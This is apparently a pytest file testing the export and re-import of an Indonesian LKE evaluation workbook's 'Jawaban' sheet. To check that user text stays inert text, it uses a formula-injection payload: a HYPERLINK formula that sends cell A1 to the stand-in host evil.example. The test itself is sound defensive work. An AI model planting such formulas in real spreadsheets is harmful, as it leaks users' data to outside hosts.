"""The official "Jawaban" sheet of the LKE workbook: one row per soal at its excel_baris
(unit answer K, note L, evidence M, TPI answer N, TPI note Q), user text kept as text, and read
back (alone, or by choice beside the LKE sheet) into the same answers."""

from __future__ import annotations

import io
from datetime import datetime
from fractions import Fraction

import pytest
from openpyxl import Workbook, load_workbook

from tests.unit.test_portalrb_answers import EXPECTED_TOTAL, unit_answers
from wbk.portalrb import to_portalrb_answers
from wbk.reports.data import ReportData
from wbk.reports.xlsx_export import export_workbook
from wbk.reports.xlsx_import import WorkbookError, read_workbook
from wbk.scoring import parse_answers, score

NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def report(catalog) -> ReportData:
    answers = unit_answers(catalog)
    stored = {c: (a, None) for c, a in answers.items()}
    stored["P.MP.i.a"] = ("Ya", NOTE)
    stored["R.MP.i.a"] = (None, "Daftar perubahan terlampir")
    entries = to_portalrb_answers(
        catalog,
        stored,
        {"P.MP.i.b": "C", "R.MP.i.a#agen": "15", "R.MP.i.a#perubahan": "10"},
        {"P.MP.i.b": ["Lampirkan notulen", "@SUM(A1)"]},
        {"P.MP.i.a": "https://zi.example.go.id/api/bukti-dukung/A/2026/P.MP.i.a?exp=1&sig=2"},
    ).answers
    parsed = parse_answers(catalog, [])
    return ReportData(
        unit_code="A",
        unit_name="Kankemenag Kota A",
        parent_name=None,
        year=2026,
        status="draft",
        tier="self",
        catalog=catalog,
        card=score(catalog, parsed.values),
        tpi_card=None,
        answers={c: v for c, v in stored.items() if v[0] is not None},
        ratios={},
        documents=[],
        notes=[],
        generated_at=datetime(2026, 5, 1),
        extra={"jawaban": entries},
    )


@pytest.fixture
def workbook(catalog, tmp_path):
    path = tmp_path / "lke.xlsx"
    path.write_bytes(export_workbook(report(catalog)))
    return path


def test_the_jawaban_sheet_puts_each_soal_at_its_row(workbook, catalog):
    wb = load_workbook(workbook)
    assert wb.sheetnames[:2] == ["LKE", "Skala"] and "Jawaban" in wb.sheetnames
    ws = wb["Jawaban"]
    # soal 1 (P.MP.i.a) is row 6 of the official sheet, soal 2 (P.MP.i.b) row 7, soal 88/89
    # (R.MP.i.a's counts, agen then perubahan) rows 126/127, soal 125 (IPAK) row 199
    assert [ws["A6"].value, ws["B6"].value, ws["K6"].value] == [1, "P.MP.i.a", "Ya"]
    assert ws["M6"].value.startswith("https://zi.example.go.id/api/bukti-dukung/A/2026/")
    assert (ws["K7"].value, ws["N7"].value) == ("B", "C")
    assert ws["Q7"].value == "Lampirkan notulen\n\n@SUM(A1)"
    assert (ws["B126"].value, ws["K126"].value, ws["N126"].value) == ("R.MP.i.a#agen", 15, 15)
    assert (ws["B127"].value, ws["K127"].value, ws["N127"].value) == ("R.MP.i.a#perubahan", 12, 10)
    assert ws["L127"].value == "Daftar perubahan terlampir"
    assert (ws["B199"].value, ws["K199"].value) == ("H.I.a", 3.62)
    rows = {s.excel_baris for s in catalog.soals}
    assert len(rows) == 127 and all(ws[f"A{r}"].value is not None for r in rows)


def test_user_text_stays_text(workbook):
    ws = load_workbook(workbook)["Jawaban"]
    assert ws["L6"].data_type == "s" and ws["L6"].quotePrefix  # a formula lead: quoted
    assert ws["L6"].value == NOTE  # shown as typed, never a live formula
    assert ws["Q7"].data_type == "s"  # "Lampirkan ... @SUM(A1)": text, no formula lead


def test_the_jawaban_sheet_reads_back_to_the_same_score(workbook, catalog):
    parsed = read_workbook(workbook, catalog, sheet="Jawaban")
    assert parsed.problems == [] and parsed.answer_col == "K"
    answers = {r.code: r.answer for r in parsed.rows if r.answer}
    assert answers == unit_answers(catalog)
    lines = {r.code: r.line for r in parsed.rows}
    assert (lines["P.MP.i.a"], lines["R.MP.i.a#perubahan"], lines["R.MP.i.a"]) == (6, 127, 126)
    notes = {r.code: r.note for r in parsed.rows if r.note}
    assert notes == {"P.MP.i.a": NOTE, "R.MP.i.a": "Daftar perubahan terlampir"}
    card = score(catalog, parse_answers(catalog, parsed.rows).values)
    assert card.total == EXPECTED_TOTAL == Fraction(7777, 80)
    # without a choice the LKE sheet is read, as before
    assert read_workbook(workbook, catalog).answer_col == "D"
    tpi = {r.code: r.answer for r in read_workbook(workbook, catalog, "Jawaban", "tpi").rows}
    assert tpi == {"P.MP.i.b": "C", "R.MP.i.a#agen": "15", "R.MP.i.a#perubahan": "10"}


def official(tmp_path, cells: dict[str, object], merge: str | None = None):
    """A workbook with only a "Jawaban" sheet, as a unit fills KemenPANRB's template."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Jawaban"
    for ref, value in cells.items():
        ws[ref] = value
    if merge:
        ws.merge_cells(merge)
    path = tmp_path / "jawaban.xlsx"
    buf = io.BytesIO()
    wb.save(buf)
    path.write_bytes(buf.getvalue())
    return path


def test_a_workbook_with_only_the_jawaban_sheet_is_read_and_bad_cells_named(tmp_path, catalog):
    # K6 Ya (soal 1), K7 Z (not an option of P.MP.i.b), K126/K127 counts typed as text,
    # K199 IPAK with a decimal comma, K200 a formula; K9 (soal 3) inside a merged range
    path = official(
        tmp_path,
        {
            "K6": "ya",
            "L6": "SK terbit",
            "K7": "Z",
            "K126": "15",
            "K127": "12",
            "K199": "3,62",
            "K200": "=1+1",
        },
        merge="K8:K9",
    )
    parsed = read_workbook(path, catalog)
    answers = {r.code: r.answer for r in parsed.rows if r.answer}
    assert answers == {
        "P.MP.i.a": "Ya",
        "R.MP.i.a#agen": "15",
        "R.MP.i.a#perubahan": "12",
        "H.I.a": "3.62",
    }
    problems = {p.cell: p.message_key for p in parsed.problems}
    assert problems == {
        "K7": "portalrb.answers.bad_option",
        "K9": "xlsx.merged",
        "K200": "xlsx.formula",
    }
    bad = next(p for p in parsed.problems if p.cell == "K7").message("id")
    assert bad.startswith("K7: soal 2 (P.MP.i.b): jawaban 'Z'")


def test_one_count_of_a_percentage_question_alone_is_named(tmp_path, catalog):
    path = official(tmp_path, {"K126": 15})  # soal 88 without soal 89
    parsed = read_workbook(path, catalog)
    assert [(p.cell, p.message_key) for p in parsed.problems] == [
        ("K127", "portalrb.answers.missing_counts")
    ]
    # no answer read; the empty note column L says every penjelasan is empty
    assert {(r.answer, r.note) for r in parsed.rows} == {("", "")}


def test_a_sheet_that_is_not_there_is_refused(workbook, catalog, tmp_path):
    with pytest.raises(WorkbookError):
        read_workbook(workbook, catalog, sheet="Lain")
    other = Workbook()
    other.active.title = "Data"
    path = tmp_path / "lain.xlsx"
    other.save(path)
    with pytest.raises(WorkbookError) as refused:
        read_workbook(path, catalog)
    assert "Data" in refused.value.message("id")
